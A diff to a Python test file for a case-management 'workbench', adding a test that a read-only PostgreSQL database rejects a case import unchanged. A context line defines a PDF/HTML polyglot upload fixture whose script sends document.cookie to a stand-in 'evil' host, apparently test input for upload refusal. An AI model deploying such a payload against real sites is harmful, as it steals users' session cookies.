@@ -4,13 +4,17 @@ projects folder.  Each ends in one Chinese message; nothing stored changes; refu
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 from actors import CLI, EVALUATOR, LEADER, UNIT, YIYANG, add_accounts, audit_rows, reopen
 
-from workbench.errors import Forbidden, InvalidInput, NotFound
+from workbench.errors import READ_ONLY, Forbidden, InvalidInput, NotFound, explain
 from workbench.services import case_upload, cases, catalog, evaluations, evidence, review
 from workbench.services.bootstrap import ensure_database
-from workbench.storage.uow import Database
+from workbench.storage.uow import Database, open_database
+
+YIYANG_DIR = Path(__file__).resolve().parents[2] / "projects" / "yiyang-smart-brain-2018"
 
 PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 POLYGLOT = PDF + b"<html><body><script>fetch('//evil/'+document.cookie)</script></body></html>"
@@ -146,3 +150,25 @@ def test_a_case_in_the_projects_folder_is_imported_by_its_name(db):
     )
 
     assert imported == "by-name"
+
+
+@pytest.mark.postgres
+def test_a_read_only_postgresql_database_is_named_as_such_and_keeps_what_it_has(postgres_url):
+    import sqlalchemy as sa
+
+    ensure_database(postgres_url).dispose()
+    name = postgres_url.rsplit("/", 1)[1]
+    admin = sa.create_engine(postgres_url.rsplit("/", 1)[0] + "/postgres", isolation_level="AUTOCOMMIT")
+    with admin.connect() as conn:
+        conn.execute(sa.text(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on'))
+    admin.dispose()
+    db = open_database(postgres_url)
+    try:
+        before = stored_state(db)
+        with pytest.raises(Exception) as failed:
+            cases.import_case(db.uow(), CLI, YIYANG_DIR, evaluation_id="again")
+
+        assert explain(failed.value).messages == [READ_ONLY]
+        assert stored_state(db) == before
+    finally:
+        db.dispose()
